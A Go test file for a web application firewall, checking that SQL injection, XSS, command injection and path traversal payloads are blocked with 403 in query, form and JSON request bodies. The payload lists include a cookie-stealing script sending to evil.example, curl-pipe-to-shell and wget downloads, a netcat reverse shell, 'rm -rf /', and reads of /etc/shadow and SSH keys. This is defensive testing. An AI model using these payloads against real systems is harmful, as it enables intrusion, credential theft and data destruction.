package waf

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"testing"
)

// attacks are payloads from the CRS's attack classes, each expected to be
// caught at paranoia level 1 by a rule of its class's file (930 local file
// inclusion, 932 remote command execution, 941 XSS, 942 SQL injection)
// wherever the request carries it.
var attacks = []struct {
	family   int
	payloads []string
}{
	{942, []string{
		"' OR '1'='1",
		"1 UNION SELECT username, password FROM users--",
		"1; DROP TABLE users--",
		"admin'--",
		"1' AND SLEEP(5)#",
		"' UNION ALL SELECT NULL,NULL,NULL--",
		"1' ORDER BY 3--+",
		"'; EXEC xp_cmdshell('dir')--",
		"1 OR 1=1",
		"' AND extractvalue(1,concat(0x7e,(SELECT version())))--",
		"1' WAITFOR DELAY '0:0:5'--",
		"1 AND 1=1",
	}},
	{941, []string{
		"<script>alert(1)</script>",
		"<img src=x onerror=alert(1)>",
		"<svg/onload=alert(document.cookie)>",
		"javascript:alert(1)",
		`<iframe src="javascript:alert(1)">`,
		`"><script>document.location='http://evil.example/?c='+document.cookie</script>`,
		"<body onload=alert('xss')>",
		`<a href="#" onclick="alert(1)">x</a>`,
		`<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
		`<div style="background:url(javascript:alert(1))">`,
		"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
	}},
	{932, []string{
		"; cat /etc/passwd",
		"| whoami",
		"$(whoami)",
		"`uname -a`",
		"; wget http://evil.example/x.sh -O /tmp/x.sh",
		"&& curl http://evil.example/shell.sh | sh",
		"; nc -e /bin/sh 10.0.0.1 4444",
		"; rm -rf /",
		"| /bin/bash -i",
		"; ping -c 10 127.0.0.1",
		";${IFS}cat${IFS}/etc/shadow",
		"$(curl${IFS}evil.example)",
	}},
	{930, []string{
		"../../../../etc/passwd",
		"..%2f..%2f..%2fetc%2fpasswd",
		"....//....//etc/passwd",
		"/etc/shadow",
		`..\..\..\windows\win.ini`,
		"../../../../../../proc/self/environ",
		"../../../../boot.ini",
		"file:///etc/passwd",
		"..;/..;/etc/hosts",
		"../../../../root/.ssh/id_rsa",
	}},
}

// where puts a payload in one place of a request.
var where = []struct {
	name string
	req  func(payload string) *http.Request
}{
	{"query", func(p string) *http.Request {
		return newRequest("GET", "/api/search?q="+url.QueryEscape(p)+"&page=1", "", "")
	}},
	{"form", func(p string) *http.Request {
		return newRequest("POST", "/api/search", "application/x-www-form-urlencoded", "page=1&q="+url.QueryEscape(p))
	}},
	{"json", func(p string) *http.Request {
		body, _ := json.Marshal(map[string]any{"page": 1, "filter": map[string]string{"q": p}})
		return newRequest("POST", "/api/search", "application/json", string(body))
	}},
}

func TestAttacksAreBlockedByTheirRuleFamily(t *testing.T) {
	f := shared(t, blocking)
	for _, class := range attacks {
		for _, w := range where {
			for _, p := range class.payloads {
				t.Run(fmt.Sprintf("%d in %s %q", class.family, w.name, p), func(t *testing.T) {
					v := inspect(t, f, w.req(p))
					if !v.Blocked || v.Status != http.StatusForbidden {
						t.Errorf("not blocked with 403: %+v", v)
					}
					if !hasFamily(v, class.family) {
						t.Errorf("no %dxxx rule matched; matched %v", class.family, ruleIDs(v))
					}
				})
			}
		}
	}
}
